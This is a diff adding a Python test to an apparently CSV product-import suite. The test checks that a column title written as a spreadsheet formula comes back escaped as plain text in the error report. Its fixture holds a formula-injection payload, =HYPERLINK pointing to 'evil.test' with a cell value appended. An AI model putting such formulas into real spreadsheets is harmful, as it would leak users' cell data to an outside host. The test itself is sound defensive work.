@@ -219,3 +219,13 @@ def test_a_load_killed_after_it_was_applied_ends_its_report_when_it_is_taken_up(
     for _twice in range(2):
         runs.load(run.id)
     whole_report(run)
+
+
+def test_a_column_whose_title_is_a_formula_comes_back_as_words(app, tmp_path):
+    title = '"=HYPERLINK(""http://evil.test/""&A1)"'
+    rows = f"ean;quantite;{title}\n123;1;x\n"
+    run = factories.given(factories.a_file(tmp_path, rows), mode="delta")
+    assert run.errors_path
+    header = files.read(run.errors_path).decode("utf-8-sig").splitlines()[0]
+    assert "HYPERLINK" in header
+    assert "'=HYPERLINK" in header
